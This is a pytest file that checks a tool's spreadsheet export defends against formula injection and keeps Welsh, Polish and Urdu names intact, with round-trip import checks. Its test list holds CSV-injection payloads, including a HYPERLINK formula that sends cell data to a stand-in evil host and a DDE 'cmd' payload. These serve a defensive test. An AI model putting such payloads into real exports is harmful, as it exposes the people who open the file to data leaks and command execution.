"""``cypdesk export`` against reliability anchors 55 and 56 (and issue 9 item 14), end to
end from a document: formula-looking text in a record is a text cell in Excel (no
``<f>`` in the sheet XML) and gets a leading ``'`` in CSV; names in Welsh, Polish and
Urdu come out exactly, the CSV as UTF-8 with a byte-order mark; both exports import back
into the same document changing nothing (the CSV's ``'`` must be taken off by the
importer: marked below until it is)."""

from __future__ import annotations

import csv
import sqlite3
import zipfile
from contextlib import closing

import openpyxl
import pytest
from openpyxl.utils.escape import unescape as openpyxl_unescape

from cypdesk.io.xlsx import read_csv
from tests.cli.jsonrun import run_json

NASTY = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+44 7700 900123",
    "-5 Ltd",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "\0=1+1",
    "=cmd|' /C calc'!A0",
]
NAMES = ["Siân Llŷr Cyf", "Łukasz Wąsik Sp. z o.o.", "فاطمہ ویلفیئر ٹرسٹ", "Gwenllïan & Zoë Ní Bhriain"]


def rename_organisations(path, names: list[str]) -> dict[str, str]:
    """Give the first organisations (by name) these names, as an officer typing them would."""
    with closing(sqlite3.connect(path)) as conn:
        ids = [r[0] for r in conn.execute("SELECT id FROM organisations ORDER BY name LIMIT ?", (len(names),))]
        for record_id, name in zip(ids, names):
            conn.execute("UPDATE organisations SET name = ? WHERE id = ?", (name, record_id))
        conn.commit()
    return dict(zip(ids, names))


def organisation_names(path) -> list[str]:
    with closing(sqlite3.connect(path)) as conn:
        return sorted(r[0] for r in conn.execute("SELECT name FROM organisations"))


def sheet_xml(path) -> str:
    with zipfile.ZipFile(path) as z:
        return "".join(z.read(n).decode("utf-8") for n in z.namelist() if n.startswith("xl/worksheets/"))


def test_formula_like_names_are_text_in_xlsx_and_quoted_in_csv(demo_path, capsys, tmp_path):
    """Anchor 55 through the command: organisations named =HYPERLINK(...), +44..., -5...,
    @SUM, and tab/CR/NUL-led text. The xlsx has no formula element at all and each cell
    is a string with Excel's quote prefix reading back as the name; the CSV has each
    with a ' in front, and reading it back (taking the guard off) gives the names."""
    rename_organisations(demo_path, NASTY)
    xlsx, csv_path = tmp_path / "orgs.xlsx", tmp_path / "orgs.csv"
    assert run_json(capsys, "export", demo_path, "--table", "organisations", "--out", xlsx)[0] == 0
    assert run_json(capsys, "export", demo_path, "--table", "organisations", "--out", csv_path)[0] == 0
    xml = sheet_xml(xlsx)
    assert "<f>" not in xml and "<f " not in xml
    sheet = openpyxl.load_workbook(xlsx).active
    name_col = [c.value for c in sheet[1]].index("Name") + 1
    cells = {openpyxl_unescape(c.value): c for c in
             (sheet.cell(row=r, column=name_col) for r in range(2, sheet.max_row + 1))}
    for name in NASTY:
        assert cells[name].data_type == "s" and cells[name].quotePrefix, repr(name)
    with open(csv_path, encoding="utf-8-sig", newline="") as fh:
        written = [row[0] for row in csv.reader(fh)][1:]
    for name in NASTY:
        assert "'" + name in written, repr(name)
    assert sorted(row[0] for row in list(read_csv(csv_path))[1:]) == organisation_names(demo_path)


def test_welsh_polish_and_urdu_names_come_out_exactly_with_a_bom(demo_path, capsys, tmp_path):
    """Anchor 56: the CSV starts with EF BB BF and reads back (utf-8-sig) with the names
    exactly as held; the xlsx cells hold them exactly."""
    rename_organisations(demo_path, NAMES)
    xlsx, csv_path = tmp_path / "orgs.xlsx", tmp_path / "orgs.csv"
    assert run_json(capsys, "export", demo_path, "--table", "organisations", "--out", csv_path)[0] == 0
    assert run_json(capsys, "export", demo_path, "--table", "organisations", "--out", xlsx)[0] == 0
    raw = csv_path.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf") and not raw[3:].startswith(b"\xef\xbb\xbf")
    with open(csv_path, encoding="utf-8-sig", newline="") as fh:
        got = [row[0] for row in csv.reader(fh)][1:]
    assert sorted(got) == organisation_names(demo_path) and set(NAMES) <= set(got)
    sheet = openpyxl.load_workbook(xlsx).active
    assert set(NAMES) <= {c.value for c in sheet["A"]}


@pytest.mark.parametrize("suffix", [".xlsx", ".csv"])
def test_an_export_imports_back_changing_nothing(demo_path, capsys, tmp_path, suffix):
    """Round trip (anchor 56, issue 9 "export then import changes nothing"): the
    organisations, some named in Welsh, Polish and Urdu, exported and imported back into
    the same document: every row unchanged, nothing added, and the names as before."""
    rename_organisations(demo_path, NAMES)
    before = organisation_names(demo_path)
    out = tmp_path / f"orgs{suffix}"
    assert run_json(capsys, "export", demo_path, "--table", "organisations", "--out", out)[0] == 0
    code, result = run_json(capsys, "import", demo_path, out, "--kind", "organisations")
    assert code == 0, result
    assert (result["added"], result["changed"], result["unchanged"]) == (0, 0, len(before)), result
    assert organisation_names(demo_path) == before


def test_formula_like_names_round_trip_through_xlsx(demo_path, capsys, tmp_path):
    """Anchor 55's round trip through Excel: names that look like formulas, exported and
    imported back, are unchanged (Excel's quote prefix keeps them text, with nothing
    added to the text)."""
    rename_organisations(demo_path, NASTY[:4])
    before = organisation_names(demo_path)
    out = tmp_path / "orgs.xlsx"
    assert run_json(capsys, "export", demo_path, "--table", "organisations", "--out", out)[0] == 0
    code, result = run_json(capsys, "import", demo_path, out, "--kind", "organisations")
    assert code == 0 and (result["added"], result["changed"]) == (0, 0), result
    assert organisation_names(demo_path) == before


def test_formula_like_names_round_trip_through_csv(demo_path, capsys, tmp_path):
    """Anchor 55's round trip through CSV: the export put a ' in front of each
    formula-like name; importing the CSV back must take it off again, so nothing
    changes and the names are as before (not "'=HYPERLINK...")."""
    rename_organisations(demo_path, NASTY[:4])
    before = organisation_names(demo_path)
    out = tmp_path / "orgs.csv"
    assert run_json(capsys, "export", demo_path, "--table", "organisations", "--out", out)[0] == 0
    code, result = run_json(capsys, "import", demo_path, out, "--kind", "organisations")
    assert code == 0 and (result["added"], result["changed"]) == (0, 0), result
    assert organisation_names(demo_path) == before


def test_uk_formats_frozen_header_and_widths_in_the_commands_export(demo_path, capsys, tmp_path):
    """Issue 9 item 14 through the command: organisations' whole-number columns shown
    #,##0, the header bold and frozen, each column at least as wide as its heading."""
    out = tmp_path / "orgs.xlsx"
    assert run_json(capsys, "export", demo_path, "--table", "organisations", "--out", out)[0] == 0
    sheet = openpyxl.load_workbook(out).active
    header = [c.value for c in sheet[1]]
    services = header.index("Services provided") + 1
    assert all(sheet.cell(row=r, column=services).number_format == "#,##0" for r in range(2, sheet.max_row + 1))
    assert sheet.freeze_panes == "A2" and all(c.font.b for c in sheet[1])
    for cell in sheet[1]:
        assert sheet.column_dimensions[cell.column_letter].width >= len(cell.value)
